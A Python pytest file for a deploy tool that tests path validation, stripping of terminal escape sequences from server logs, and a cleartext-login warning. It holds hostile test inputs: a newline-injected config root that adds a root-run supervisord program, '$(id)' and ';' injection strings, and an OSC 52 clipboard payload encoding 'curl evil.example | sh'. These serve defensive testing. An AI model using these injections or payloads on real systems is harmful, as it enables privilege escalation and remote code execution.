"""Hostile text in deploy.toml and from a server: refused before it reaches a file root runs, or shown inert."""

from pathlib import Path

import pytest

from deploy.config import DeployConfig, load_config, validate
from deploy.errors import DeployError
from deploy.render.supervisord import render_supervisord_main

INJECTED_ROOT = "/srv/prayer-room\n[program:owned]\ncommand=/bin/touch /owned\nuser=root\n[x]\nk="


def test_a_newline_in_root_is_refused(tmp_path):
    path = tmp_path / "deploy.toml"
    path.write_text(f'[environments.evil]\nhosts = ["root@203.0.113.7"]\nroot = {INJECTED_ROOT!r}\n'.replace("'", '"'))
    with pytest.raises(DeployError, match=r"root .* has a character other than letters"):
        load_config(path, "evil")
    # Positive control: past the check, the same root writes a program section running as root into the
    # supervisord config root runs.
    text = render_supervisord_main(DeployConfig(root=INJECTED_ROOT))
    assert "\n[program:owned]\ncommand=/bin/touch /owned\nuser=root\n" in text


@pytest.mark.parametrize("key", ["root", "etc", "backup_dir", "run", "postgres_bin", "python", "supervisorctl"])
@pytest.mark.parametrize("bad", ["/srv/a b", "/srv/a;b", "/srv/a\nb", "/srv/$(id)", "/srv/a%b"])
def test_every_path_allows_only_a_safe_set_of_characters(key, bad):
    with pytest.raises(DeployError, match=key):
        validate(DeployConfig(**{key: bad}))
    validate(DeployConfig(**{key: "/srv/prayer-room_2.0+x" if key != "python" else "python3.11"}))


HOSTILE_LOG = (
    "worker ok\r\n"
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: writes the operator's clipboard
    "\x1b[2J\x1b[H"  # clears the screen
    "\x1b]0;root@laptop\x1b\\"  # sets the window title
    "fake: all good\rreal\x9b31m\x00\n"  # a carriage return hiding a line, a C1 CSI, a NUL
)


def test_text_from_a_server_is_printed_without_control_sequences(capsys):

    from deploy import terminal

    assert terminal.printable(HOSTILE_LOG) == "worker ok\nfake: all goodreal31m\n"
    # Positive control: without it, the escape bytes reach the terminal as they came.
    print(HOSTILE_LOG, end="")
    assert "\x1b]52;" in capsys.readouterr().out
    with terminal.inert_stdout():
        for start in range(0, len(HOSTILE_LOG), 5):  # a stream cuts sequences anywhere
            print(HOSTILE_LOG[start : start + 5], end="")
    streamed = capsys.readouterr().out
    assert not any(ord(char) < 32 and char not in "\n\t" or 0x7F <= ord(char) <= 0x9F for char in streamed)
    assert "worker ok" in streamed and "real" in streamed
    assert (
        isinstance(terminal.printable("plain\ttext\n"), str) and terminal.printable("plain\ttext\n") == "plain\ttext\n"
    )


def test_a_deploy_without_a_domain_warns_that_logins_travel_in_clear(tmp_path):
    import subprocess
    import sys

    config = tmp_path / "deploy.toml"
    config.write_text(
        '[environments.plain]\nhosts = ["root@127.0.0.1:1"]\n'
        '[environments.tls]\nhosts = ["root@127.0.0.1:1"]\ndomain = "prayer.example.org"\n'
        'acme_email = "admin@example.org"\n'
    )
    fab = [
        str(Path(sys.executable).with_name("fab")),
        "-r",
        str(Path(__file__).resolve().parents[2]),
        "deploy",
        "--allow-dirty",
    ]
    plain = subprocess.run([*fab, "--env", "plain", "--config", str(config)], capture_output=True, text=True)
    assert (
        "logins and session cookies travel in clear" in plain.stdout
        and plain.returncode == 1
        and "cannot connect" in plain.stderr
    )
    # Positive control: the same deploy with a domain (HTTPS) says nothing of the kind.
    tls = subprocess.run([*fab, "--env", "tls", "--config", str(config)], capture_output=True, text=True)
    assert "travel in clear" not in tls.stdout and tls.returncode == 1 and "cannot connect" in tls.stderr
